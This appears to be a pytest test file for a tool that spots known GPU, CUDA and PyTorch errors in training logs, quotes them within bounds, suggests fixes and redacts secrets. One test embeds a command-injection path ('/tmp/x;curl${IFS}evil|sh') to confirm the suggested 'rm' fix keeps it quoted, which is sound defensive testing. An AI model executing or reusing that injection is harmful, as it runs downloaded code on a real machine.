def test_a_version_of_cuda_is_told_as_people_write_it():
    match = first(EXAMPLES["driver-too-old"][0].replace("12020", "11040"))
    assert match.says == "the driver supports CUDA only up to 11.4, and torch was built for a newer one"
    assert first(EXAMPLES["toolkit-mismatch"][0]).groups["found"] == "12.9"


def test_every_error_of_a_gpu_is_known_by_its_code():
    codes = [row["code"] for row in knowledge.rows("xids")]
    lines = [f"NVRM: Xid (PCI:0000:44:00): {code}, x" for code in codes]
    assert [first(line).groups["xid"] for line in lines] == [str(code) for code in codes]


def test_what_the_text_tells_cannot_become_a_command():
    match = first("RuntimeError: Failed to import /tmp/x;curl${IFS}evil|sh/{says}.py\nSyntaxError")
    assert match.cure[0] == "rm '/tmp/x;curl${IFS}evil|sh/{says}.py'"


def test_each_is_told_once_with_its_first_line_and_its_count():
    text = f"\n{FX}\n{NMS}\n\n{FX}\r{FX}\r\n{NMS}"
    assert [(match.id, match.line, match.count) for match in found([text.encode()])] == [
        ("fx-trace-race", 2, 3),
        ("torchvision-of-another-torch", 3, 2),
    ]


@given(st.data())
def test_where_a_log_is_cut_into_blocks_does_not_matter(data):
    text = f"a\r\n{FX}\n10%\r20%\r{NMS}\n\x1b[1mb\x1b[0m {FX}\n".encode()
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)))))
    blocks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert found(blocks) == found([text])


def test_text_is_bounded_and_shows_the_match():
    match = first("x" * 100_000 + f" {FX} " + "y" * 100_000)
    assert len(match.text) <= QUOTED
    assert "Detected that you are using FX" in match.text


def test_a_line_is_cut_between_words_and_says_so():
    numbers = " ".join(str(number) for number in range(1000, 1400))
    text = first(f"{numbers} {FX} {numbers}").text
    assert len(text) <= QUOTED
    assert text.startswith("... 1")
    assert text.endswith(" ...")
    assert all(len(word) == 4 for word in text.replace(FX, "").split() if word != "...")
    assert first(f"{OOM} {'x' * 40}").text == f"{OOM} {'x' * 40}"
    assert first(f"{FX} {numbers}").text.startswith("RuntimeError: Detected")


SECRET = "S3CRETs3cret" + "0123456789abcdefABCDEF" * 4
SECRETS = [f"HF_TOKEN={SECRET}", f"https://me:{SECRET}@host.example/x", f"--api-key {SECRET}", f"hf_{SECRET}"]
SECRETS += [f"Authorization: Bearer {SECRET}", f'os.environ["API_KEY"] = "{SECRET}"']
NEAR = [FX, OOM, "ImportError: libGL.so.1: cannot open shared object file: No such file or directory"]


def holds_a_part(text):
    return any(SECRET[at : at + 8] in text for at in range(len(SECRET) - 7))


@pytest.mark.parametrize("text", NEAR)
@given(
    st.sampled_from(SECRETS),
    st.integers(0, 2 * QUOTED),
    st.sampled_from([0, QUOTED, LONGEST]),
    st.integers(0, 2),
    st.booleans(),
)
def test_no_secret_of_the_line_is_quoted_wherever_the_line_is_cut(text, secret, near, far, before, behind):
    """Anywhere around the match, on a short line or one that is longer than may be, in blocks of any size."""
    gap = " " + "x" * near + " "
    line = "y" * (far * before) + " " + (f"{text}{gap}{secret}" if behind else f"{secret}{gap}{text}") + "z" * far
    log = f"{line}\n".encode()
    at = log.index(SECRET.encode())
    for cut in (len(log), at, at + 9, at + len(SECRET)):
        matches = found([log[:cut], log[cut:]])
        assert len(matches) == 1
        assert not holds_a_part(repr(matches))


@pytest.mark.parametrize("secret", SECRETS[1:4])
def test_no_secret_is_within_what_the_text_tells(secret):
    """The group may hold a part of what tells that it is a secret, or be hidden with it."""
    for text in (
        f"PermissionError: [Errno 13] Permission denied: '/tmp/triton/{secret}/x'",
        f"RuntimeError: Failed to import /tmp/{secret.replace(' ', '=')}.py",
        f"PermissionError: [Errno 13] Permission denied: '/{'d' * 180}/triton/{secret}'",
        f"PermissionError: [Errno 13] Permission denied: '/token={SECRET}/triton/x'",
    ):
        match = first(text)
        assert match is not None
        assert not holds_a_part(repr(match))


@pytest.mark.whole  # takes seconds
@given(st.data())
def test_a_line_that_is_too_long_is_searched_as_well_where_it_is_torn(data):
    line = b"=" * (3 * LONGEST)
    at = data.draw(st.integers(LONGEST, 2 * LONGEST))
    log = b"a\n" + line[:at] + OOM.encode() + line[at:] + b"\n" + FX.encode()
    around = st.integers(at, at + len(OOM) + 10) | st.integers(0, len(log))
    cuts = sorted(data.draw(st.lists(around, max_size=4)))
    blocks = [log[start:end] for start, end in zip([0, *cuts], [*cuts, len(log)], strict=True)]
    assert [(match.id, match.line, match.count) for match in found(blocks)] == [
        ("out-of-memory", 2, 1),
        ("fx-trace-race", 3, 1),
    ]


def test_undecodable_bytes_hide_nothing():
    (match,) = found([b"\xff\xfe caf\xe9 " + NMS.encode() + b" \x00\x9b"])
    assert match.text.endswith("does not exist \x00\ufffd")


@pytest.mark.parametrize("sequence", ["\x1b[1;35m", "\x1b[0m", "\x1b]8;;file:///x\x1b\\", "\x1b]8;;\x07"])
def test_terminal_sequences_hide_nothing(sequence):
    broken = sequence.join(NMS.partition("vision"))
    assert first(broken).text == NMS


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n"])
@pytest.mark.parametrize("begun", ["\x1b]0;training", "\x1b]8;;http://x", "\x1b[0", "\x1b]"])
def test_a_terminal_sequence_without_an_end_hides_no_other_line(begun, end):
    text = f"{begun}{end}{NMS}{end}more \x07 \x1b\\{end}"
    (match,) = found([text.encode()])
    assert (match.text, match.line) == (NMS, text[: text.index(NMS)].count("\n") + 1)


HARD = ["/", "a", "/a", "a/", ".", "-", "'", ": ", "lib", "torchinductor_", "triton/", "x.so", "\x1b[0", "\x1b]", "é"]
"""Bits that patterns begin with or repeat."""


@pytest.mark.parametrize("row", ROWS, ids=[row["id"] for row in ROWS])
def test_no_line_makes_a_pattern_slow(row):
    """Feed each pattern lines of its own beginnings and of what its classes take, as long as a line may be."""
    pattern = re.compile(row["pattern"], re.MULTILINE)
    own = [branch.replace("\0", "") for branch in branches(_parser.parse(row["pattern"]))]
    for bit in {*HARD, *own, *(piece[: len(piece) // 2] for piece in own), *(f"/{piece}" for piece in own)}:
        line = (bit or "x") * (2 * LONGEST // len((bit or "x").encode()))
        began = time.process_time()
        pattern.search(line)
        assert time.process_time() - began < 1, bit


@pytest.mark.whole  # takes seconds
@given(st.lists(st.sampled_from([*HARD, *TRIGGERS, "\n", "\r", " "]), min_size=1, max_size=8))
def test_no_log_is_slow(bits):
    log = "".join(bits).encode()
    log *= (1 << 19) // len(log)
    began = time.process_time()
    found([log])
    assert time.process_time() - began < 10
